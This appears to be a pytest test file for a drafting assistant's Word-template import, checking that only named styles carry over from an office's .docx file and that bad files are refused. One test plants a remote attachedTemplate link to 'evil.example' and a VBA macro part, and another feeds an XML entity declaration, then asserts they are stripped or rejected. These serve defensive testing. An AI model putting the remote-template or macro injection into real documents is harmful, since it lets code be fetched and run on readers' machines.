"""An office's own file as a template: its styles by name, and nothing else of it."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn
from docx.shared import Mm, Pt

from assistant.errors import DraftError
from assistant.exporting.export import Layout
from assistant.exporting.office import office_layout
from assistant.exporting.template import read_template
from assistant.settings import Settings
from tests.assistant.exporting.samples import (
    PROBLEMS,
    body,
    inherited,
    made,
    parts,
    styles,
    texts,
    value,
)
from tests.assistant.exporting.schema import disorder


def office_file(*names: str, normal: str = "") -> bytes:
    """A Word file with styles of these names (方正舒体, 20 pt) and paper of 200 × 280 mm."""
    document = docx.Document()
    for name in names:
        style = document.styles.add_style(name, WD_STYLE_TYPE.PARAGRAPH)
        style.font.size = Pt(20)
        fonts = style.element.get_or_add_rPr().get_or_add_rFonts()
        fonts.set(qn("w:eastAsia"), "方正舒体")
        fonts.set(qn("w:asciiTheme"), "minorHAnsi")
    if normal:
        fonts = document.styles["Normal"].element.get_or_add_rPr().get_or_add_rFonts()
        fonts.set(qn("w:eastAsia"), normal)
    section = document.sections[0]
    section.page_width, section.page_height = Mm(200), Mm(280)
    document.add_paragraph("模板里的字")
    section.header.paragraphs[0].text = "模板的页眉"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_entries(data: bytes, **entries: str) -> bytes:
    """The package with these parts changed or added; "/" is written as "__"."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w") as new:
        named = {name.replace("__", "/"): content for name, content in entries.items()}
        for name in old.namelist():
            if name not in named:
                new.writestr(name, old.read(name))
        for name, content in named.items():
            new.writestr(name, content)
    return buffer.getvalue()


def layout(data: bytes) -> Layout:
    return Layout(template=read_template(data, "模板.docx"))


@pytest.mark.parametrize(
    ("name", "style"),
    [
        ("标题", "Title"), ("公文标题", "Title"), ("正文", "NigaoBody"), ("一级标题", "Heading1"),
        ("二级标题", "Heading2"), ("三级标题", "Heading3"), ("四级标题", "Heading4"), ("页码", "Footer"),
    ],
)  # fmt: skip
def test_a_style_takes_the_place_of_ours_by_its_name(name: str, style: str) -> None:
    file = made(title="总结", layout=layout(office_file(name)))
    assert inherited(file, style, "w:rPr/w:rFonts", "eastAsia") == "方正舒体"
    assert inherited(file, style, "w:rPr/w:sz") == "40"
    assert value(styles(file)[style], "w:name") == name
    # All others are ours.
    ours = made(title="总结")
    for other in {"Title", "NigaoBody", "Heading1", "Heading2"} - {style}:
        for path in ("w:rPr/w:sz", "w:pPr/w:spacing"):
            assert inherited(file, other, path) == inherited(ours, other, path)
    assert [d for root in parts(file).values() for d in disorder(root)] == []
    if style.startswith("Heading"):
        assert value(styles(file)[style], "w:pPr/w:outlineLvl") == str(int(style[-1]) - 1)


@pytest.mark.parametrize(("normal", "font"), [("", "仿宋_GB2312"), ("华文仿宋", "华文仿宋")])
def test_what_every_word_file_has_counts_with_a_font_of_its_own(normal: str, font: str) -> None:
    file = made(layout=layout(office_file(normal=normal)))
    assert inherited(file, "NigaoBody", "w:rPr/w:rFonts", "eastAsia") == font
    assert inherited(file, "Heading1", "w:rPr/w:rFonts", "eastAsia") == "黑体"
    names = [value(s, "w:name") for s in styles(file).values()]
    assert len(names) == len(set(names))


def test_the_paper_is_the_office_s_and_the_words_are_the_draft_s() -> None:
    file = made(layout=layout(office_file("正文")))
    size = body(file).find(qn("w:sectPr")).find(qn("w:pgSz"))
    assert round(int(size.get(qn("w:w"))) / 56.7) == 200
    assert texts(file) == texts(made())
    assert not [n for n in parts(file) if "header" in n]
    # A table across is laid on our paper.
    across = body(made(form="evidence", layout=layout(office_file("正文"))))
    assert across.find(qn("w:sectPr")).find(qn("w:pgSz")).get(qn("w:w")) == "16838"


def test_a_style_brings_what_it_is_based_on() -> None:
    document = docx.Document(io.BytesIO(office_file("正文", "底样")))
    document.styles["正文"].base_style = document.styles["底样"]
    rank = document.styles["正文"].element.rPr
    rank.remove(rank.find(qn("w:sz")))
    document.styles["底样"].font.size = Pt(21)
    document.styles["底样"].base_style = document.styles["正文"]  # a circle
    buffer = io.BytesIO()
    document.save(buffer)
    file = made(layout=layout(buffer.getvalue()))
    assert inherited(file, "NigaoBody", "w:rPr/w:sz") == "42"


def test_nothing_else_of_a_template_survives() -> None:
    data = office_file("正文", "一级标题")
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        links = package.read("word/_rels/document.xml.rels").decode()
        sheet = package.read("word/styles.xml").decode()
    links = links.replace(
        "</Relationships>",
        f'<Relationship Id="rIdX" Type="{kinds}/attachedTemplate" Target="http://evil.example/a.dotm"'
        f' TargetMode="External"/><Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    number = "<w:numPr><w:numId w:val='7'/></w:numPr>"
    marked = sheet.replace(
        '<w:name w:val="一级标题"/>', f'<w:name w:val="一级标题"/><w:pPr>{number}</w:pPr>'
    )
    assert marked != sheet
    data = with_entries(data, **{"word/_rels/document.xml.rels": links, "word/styles.xml": marked})
    data = with_entries(data, **{"word/vbaProject.bin": "MACRO"})
    file = made(layout=layout(data))
    with zipfile.ZipFile(io.BytesIO(file.content)) as package:
        names = package.namelist()
        everything = b"".join(package.read(name) for name in names)
    assert not [n for n in names if "vba" in n.lower() or "header" in n]
    for trace in (b"evil.example", b"External", b"MACRO", "模板里的字".encode(), b"numPr"):
        assert trace not in everything
    for name, root in parts(file).items():
        for element in root.iter():
            assert not [a for a in element.attrib if "theme" in a.lower()], name


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "不是能打开的 Word 文档"),
        ("一段文字".encode(), "不是能打开的 Word 文档"),
        (b"%PDF-1.7", "不是能打开的 Word 文档"),
        (with_entries(office_file(), **{"word/styles.xml": "<a/>"}), "没有 Word 样式"),
        (with_entries(office_file(), **{"word/styles.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
         "不是能打开的 Word 文档"),
        (with_entries(office_file(), **{"word/document.xml": "<w"}), "不是能打开的 Word 文档"),
    ],
)  # fmt: skip
def test_what_is_no_template_is_refused(data: bytes, said: str) -> None:
    with pytest.raises(DraftError, match=said) as refusal:
        read_template(data, "甲.docx")
    assert "“甲.docx”" in str(refusal.value)


def test_an_office_sets_its_layout(tmp_path: Path) -> None:
    template = tmp_path / "本单位.docx"
    settings = Settings(home=tmp_path, word_fonts="windows", word_label="always")
    assert office_layout(settings) == Layout("windows", None, "always")
    settings = settings.model_copy(update={"word_template": template})
    with pytest.raises(DraftError, match="本单位"):
        office_layout(settings)
    template.write_bytes(office_file("标题"))
    found = office_layout(settings).template
    assert found
    assert list(found.found) == ["Title"]


def test_a_template_changes_no_word() -> None:
    strange = replace(PROBLEMS, heading="一、存在的问题")
    assert texts(made(strange, layout=layout(office_file("一级标题")))) == texts(made(strange))
